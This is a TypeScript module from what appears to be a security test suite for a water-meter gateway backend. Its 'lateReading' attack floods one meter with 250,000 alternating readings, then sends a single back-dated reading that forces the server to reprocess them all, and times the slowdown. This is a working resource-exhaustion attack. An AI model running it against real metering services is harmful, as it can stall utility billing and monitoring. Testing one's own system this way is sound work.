import { setTimeout as sleep } from 'node:timers/promises'

import { dataOf } from '../product.ts'
import { snOf } from '../readings.ts'
import { report } from './devices.ts'
import { type Attack, LONG_AGO, METERS, reading, type Target } from './target.ts'

const STORED = 250_000
const IN_A_REPORT = 5000
const APART_MS = 120_000
const HIGH_LITRES = 5_000_000
const LOOK_MS = 500

/**
 * F4: a gateway stores readings of one meter, low and high by turns, so that every second one is held. One high reading before them
 * all turns each of them round.
 */
export const lateReading: Attack = async (target) => {
  const { urls, gatewayKey: key, ms } = target
  const url = urls[0]!
  const deviceSn = snOf(METERS.late.first)
  const first = LONG_AGO()
  const stored = (n: number) => ({ deviceSn, ...reading(first + n * APART_MS, n + (n % 2) * HIGH_LITRES) })
  for (let from = 0; from < STORED; from += IN_A_REPORT)
    await report({ url, key, readings: Array.from({ length: IN_A_REPORT }, (_, n) => stored(from + n)) })

  return {
    async go() {
      const sentAt = performance.now()
      const seconds = () => ((performance.now() - sentAt) / 1000).toFixed(1)
      const before = await registerOf(target, deviceSn)
      const answered = await report({ url, key, readings: [{ deviceSn, ...reading(first - 1, HIGH_LITRES) }] }).then(
        () => `answered after ${seconds()} s`,
        (error: unknown) => `${String(error)} after ${seconds()} s`,
      )
      let judged = `not judged within ${ms / 1000} s`
      for (; performance.now() - sentAt < ms; await sleep(LOOK_MS)) {
        if (!judged.startsWith('not') || (await registerOf(target, deviceSn)) === before) continue
        judged = `all judged after ${seconds()} s`
      }
      return `${STORED} readings turned round by one: ${answered}, ${judged}`
    },
  }
}

/** Of its last accepted reading; nothing while nobody answers. */
async function registerOf({ urls, session }: Target, deviceSn: string): Promise<string | undefined> {
  const answer = await fetch(`${urls.at(-1)}/api/v1/water/waterMeter/list?deviceSn=${deviceSn}`, { headers: session })
  if (!answer.ok) return undefined
  const { list } = (await dataOf(answer)) as { list: { deviceSn: string; register: string }[] }
  return list.find((meter) => meter.deviceSn === deviceSn)?.register
}
